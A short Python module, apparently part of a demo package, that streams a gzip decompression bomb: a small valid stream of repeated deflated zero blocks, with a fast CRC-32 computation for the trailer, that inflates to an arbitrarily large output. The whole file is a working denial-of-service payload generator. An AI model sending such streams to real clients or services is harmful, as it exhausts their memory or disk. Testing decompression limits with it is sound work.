"""A gzip bomb: a small stream that unpacks to a very large one, made without holding either."""

import struct
from collections.abc import Iterator

from demo.body import GZIP_HEADER, LAST_BLOCK, piece

_BLOCK_BYTES = 1 << 20

_POLYNOMIAL = 0xEDB88320
"""That of gzip's checksum, without its highest power, the lowest bit standing for the highest power
left (RFC 1952, 8)."""
_ONE = 1 << 31
_X_TO_THE_8TH = 1 << 23


def gzip_of_zeros(blocks: int) -> Iterator[bytes]:
    """A gzip stream of one member that unpacks to ``blocks`` MiB of zeros, in parts of about 1 kB.

    The same deflated block, which ends with a full flush, stands in it again and again.
    """
    deflated = piece(bytes(_BLOCK_BYTES)).deflated
    yield GZIP_HEADER
    for _ in range(blocks):
        yield deflated
    size = blocks * _BLOCK_BYTES
    yield LAST_BLOCK + struct.pack("<LL", crc_of_zeros(size), size & 0xFFFFFFFF)


def packed_size(blocks: int) -> int:
    """How many bytes `gzip_of_zeros` gives."""
    ends = len(GZIP_HEADER) + len(LAST_BLOCK) + 8
    return ends + blocks * len(piece(bytes(_BLOCK_BYTES)).deflated)


def crc_of_zeros(size: int) -> int:
    """CRC-32 of so many zero bytes, in time that grows with the logarithm of ``size``.

    A checksum is the rest of a division of polynomials over GF(2), and a zero byte multiplies it by
    x to the 8th: so many zero bytes by the power of that, found by squaring.
    """
    factor, square = _ONE, _X_TO_THE_8TH
    while size:
        if size & 1:
            factor = _product(factor, square)
        square = _product(square, square)
        size >>= 1
    return _product(0xFFFFFFFF, factor) ^ 0xFFFFFFFF


def _product(left: int, right: int) -> int:
    """The product of two polynomials, modulo that of the checksum."""
    product = 0
    for power in range(31, -1, -1):
        if left >> power & 1:
            product ^= right
        right = right >> 1 ^ (_POLYNOMIAL if right & 1 else 0)
    return product
